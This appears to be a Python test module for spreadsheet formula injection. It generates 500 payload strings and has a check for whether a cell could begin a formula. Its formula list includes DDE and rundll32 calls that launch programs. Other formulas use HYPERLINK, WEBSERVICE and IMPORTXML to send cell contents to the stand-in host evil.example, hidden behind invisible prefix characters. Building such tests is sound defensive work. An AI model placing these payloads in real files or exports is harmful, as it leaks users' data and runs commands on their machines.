"""Five hundred texts by which people have tried to make a spreadsheet compute, and how to see whether one does."""

import itertools

FORMULAS = (
    "1+1",
    'HYPERLINK("https://evil.example/?"&A1,"Open")',
    "cmd|' /C calc'!A0",
    'WEBSERVICE("https://evil.example/"&B2)',
    'IMPORTXML(CONCAT("https://evil.example/?v=",CONCATENATE(A2:E2)),"//a")',
    "SUM(A1:A9)",
    "rundll32|'URL.dll,OpenURL calc.exe'!A",
    '10+20+DDE("cmd";"/C calc";"!A0")',
)
SIGNS = "=+-@＝＋－＠"
BEFORE = (
    "",
    " ",
    "\t",
    "\r",
    "\n",
    "\r\n",
    '"',
    "'",
    "\u00a0",
    "\u3000 ",
    "\ufeff",
    "\u200b",
    "ab;",
    "ab\n",
    "a\t",
    '";',
)


def payloads() -> list[str]:
    """Return 500 of them, and each sign alone."""
    found = [f"{before}{sign}{formula}" for before, sign, formula in itertools.product(BEFORE, SIGNS, FORMULAS)]
    every = len(found) / 492
    return [*SIGNS, *(found[int(number * every)] for number in range(492))]


def begins_formula(cell: str) -> bool:
    """Say whether a careless program could begin a formula with `cell`: whatever cannot be seen is dropped first."""
    return cell.lstrip(' \t\r\n"\u00a0\u3000\ufeff\u200b')[:1] in set(SIGNS)
